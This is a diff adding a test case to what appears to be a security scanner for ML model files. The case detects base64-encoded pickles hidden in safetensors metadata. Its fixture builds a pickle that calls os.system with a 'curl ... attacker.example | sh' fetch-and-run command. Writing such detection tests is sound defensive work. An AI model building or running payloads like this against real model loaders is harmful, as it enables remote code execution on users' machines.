@@ -8,6 +8,10 @@ import type { RuleCase, RuleCases } from '../../rules/index.js';
 import { ruleCases } from '../../rules/index.js';
 import { tinyPickle } from '../../../test-fixtures/hf-builder.js';
 import { rawSafetensors, safetensorsFile, tinyZip } from '../../../test-fixtures/safetensors-builder.js';
+import { pickle, tuple } from '../../../test-fixtures/pickle-builder.js';
+
+const EVIL_B64 = Buffer.from(pickle((b) => b.proto(2).global('os', 'system').value(tuple('curl -s http://attacker.example/x | sh')).reduce().stop())).toString('base64');
+
 
 const REAL = new URL('../../../test-fixtures/real/', import.meta.url);
 const real = (name: string) => (): Uint8Array => readFileSync(new URL(name, REAL));
@@ -20,6 +24,10 @@ const T = [
 const REAL_SAFETENSORS: RuleCase = { name: 'real safetensors file (safetensors 0.8)', files: { 'model.safetensors': real('tiny.safetensors') } };
 
 export const SAFETENSORS_RULE_CASES: readonly RuleCases[] = [
+  ruleCases('safetensors/embedded-object', {
+    valid: [REAL_SAFETENSORS, { name: 'ordinary metadata (format, a JSON config)', files: { 'model.safetensors': () => safetensorsFile(T, { metadata: { format: 'pt', config: '{"hidden_size": 8, "layers": [1, 2, 3]}' } }) } }],
+    invalid: [{ name: 'a base64 pickle in __metadata__', files: { 'model.safetensors': () => safetensorsFile(T, { metadata: { format: 'pt', extra: EVIL_B64 } }) }, expect: { severity: 'medium', messageIncludes: 'base64-encoded pickle' } }],
+  }),
   ruleCases('safetensors/malformed-header', {
     valid: [REAL_SAFETENSORS],
     invalid: [
